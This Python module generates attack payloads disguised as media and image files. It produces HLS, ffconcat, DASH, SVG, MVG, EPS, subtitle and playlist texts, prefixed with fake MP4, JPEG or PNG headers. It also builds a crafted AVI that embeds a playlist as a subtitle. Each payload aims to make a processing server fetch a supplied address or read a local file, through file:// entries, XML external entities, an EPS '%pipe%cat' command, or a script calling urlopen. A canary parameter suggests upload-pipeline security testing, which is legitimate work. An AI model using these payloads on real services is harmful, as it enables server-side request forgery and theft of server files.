"""Texts that make a reader open another file or address, disguised as videos and pictures."""

import base64
from collections.abc import Iterator

_DISGUISES = {
    "bare": b"",
    "ftyp": b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isommp41",
    "free": b"\x00\x00\x00\x08free",
    "jpeg": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00",
    "png": b"\x89PNG\r\n\x1a\n",
    "webp": b"RIFF\xff\x00\x00\x00WEBPVP8 ",
}
_ENDINGS = ("mp4", "mov", "jpg", "png", "webp")


def made(url: str, canary: str) -> Iterator[tuple[str, bytes, bool]]:
    """Each text bare, and behind the first bytes of something that is taken."""
    for number, (name, text) in enumerate(_texts(url, canary).items()):
        ending = _ENDINGS[number % len(_ENDINGS)]
        for disguise, head in _DISGUISES.items():
            yield f"{name}-{disguise}.{ending}", head + text, not head
    yield "avi-with-hls.mp4", _avi(_texts(url, canary)["hls-http"]), True


def _texts(url: str, canary: str) -> dict[str, bytes]:
    svg = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink"><image x:href="{}"/></svg>'
    inner = base64.b64encode(f"#EXTM3U\n#EXTINF:1,\n{url}/d.ts\n".encode()).decode()
    texts = {
        "hls-http": f"#EXTM3U\n#EXT-X-TARGETDURATION:4\n#EXTINF:4,\n{url}/a.ts\n#EXT-X-ENDLIST\n",
        "hls-file": f"#EXTM3U\n#EXTINF:4,\nfile://{canary}\n#EXT-X-ENDLIST\n",
        "hls-concat": f"#EXTM3U\n#EXTINF:4,\nconcat:{url}/h.m3u8|file://{canary}\n#EXT-X-ENDLIST\n",
        "hls-subfile": f"#EXTM3U\n#EXTINF:4,\nsubfile,,start,0,end,99,,:{canary}\n#EXT-X-ENDLIST\n",
        "hls-key": f'#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="{url}/k"\n#EXTINF:4,\nfile://{canary}\n',
        "hls-map": f'#EXTM3U\n#EXT-X-MAP:URI="file://{canary}"\n#EXTINF:4,\n{url}/m.mp4\n',
        "hls-variants": f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=9\n{url}/v.m3u8\n",
        "hls-bom": f"\ufeff#EXTM3U\n#EXTINF:4,\n{url}/a.ts\n",
        "hls-spaces": f"\n\n   #EXTM3U\r\n#EXTINF:4,\r\n{url}/a.ts\r\n",
        "concat-http": f"ffconcat version 1.0\nfile {url}/a.mp4\n",
        "concat-file": f"ffconcat version 1.0\nfile '{canary}'\nduration 3\n",
        "concat-plain": f"file '{canary}'\nfile '{url}/a.mp4'\n",
        "dash-http": f'<?xml version="1.0"?><MPD><Period><BaseURL>{url}/</BaseURL></Period></MPD>',
        "dash-entity": f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file://{canary}">]><MPD>&b;</MPD>',
        "sdp": f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=a\nc=IN IP4 127.0.0.1\nm=video {url.rpartition(':')[2]} RTP/AVP 96\n",
        "lavfi": f"movie={canary}",
        "data-uri": f"data:application/vnd.apple.mpegurl;base64,{inner}",
        "srt": f'1\n00:00:00,000 --> 00:00:09,000\n<font face="{canary}"><img src="{url}/s.png">\n',
        "ass": f"[Script Info]\nScriptType: v4.00+\n[Fonts]\nfontname: {canary}\n[Events]\n",
        "svg-http": svg.format(f"{url}/s.png"),
        "svg-file": svg.format(f"file://{canary}"),
        "svg-entity": f'<!DOCTYPE svg [<!ENTITY b SYSTEM "file://{canary}">]><svg><text>&b;</text></svg>',
        "mvg": f"push graphic-context\nfill 'url({url}/a.png)'\nimage over 0,0 9,9 'text:{canary}'",
        "msl": f'<?xml version="1.0"?><image><read filename="text:{canary}"/><read filename="{url}/a"/></image>',
        "eps": f"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n({canary}) (r) file 99 string readstring pop show\n",
        "eps-pipe": f"%!PS\n(%pipe%cat {canary}) (r) file\n",
        "m3u": f"{url}/a.mp3\n{canary}\n",
        "pls": f"[playlist]\nFile1={url}/a.mp4\nFile2={canary}\nNumberOfEntries=2\n",
        "xspf": f"<playlist><trackList><track><location>{url}/a</location></track></trackList></playlist>",
        "smil": f'<smil><body><video src="{url}/a.mp4"/></body></smil>',
        "rtsptext": f"RTSPtext{url.replace('http', 'rtsp')}/a",
        "reference-movie": f"SMILtext{url}/a.mov",
        "imf": f"<CompositionPlaylist><Id>urn:uuid:0</Id><Asset>{url}/asset.xml</Asset></CompositionPlaylist>",
        "cue": f'FILE "{canary}" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n',
        "ffmetadata": f";FFMETADATA1\ntitle=@{canary}\n",
        "vapoursynth": f"import urllib.request\nurllib.request.urlopen('{url}')\n",
        "avisynth": f'AviSource("{canary}")\n',
        "html": f'<html><video src="{url}/a.mp4"></video><script>location="{url}"</script></html>',
        "url-file": f"[InternetShortcut]\nURL={url}\n",
        "quicktime-link": f'<?quicktime type="application/x-quicktime-media-link"?><embed src="{url}"/>',
    }
    return {name: text.encode() for name, text in texts.items()}


def _avi(playlist: bytes) -> bytes:
    """A known attack: an AVI whose subtitle is a playlist."""
    subtitle = b"GAB2\x00\x02\x00" + b"\x00" * 8 + playlist
    chunk = b"00tx" + len(subtitle).to_bytes(4, "little") + subtitle
    head = b"LIST\x7c\x00\x00\x00hdrlavih8\x00\x00\x00" + b"\x00" * 56
    stream = b"LIST\x44\x00\x00\x00strlstrh\x38\x00\x00\x00txts" + b"\x00" * 52
    body = b"AVI " + head + stream + b"LIST" + (len(chunk) + 4).to_bytes(4, "little") + b"movi" + chunk
    return b"RIFF" + len(body).to_bytes(4, "little") + body
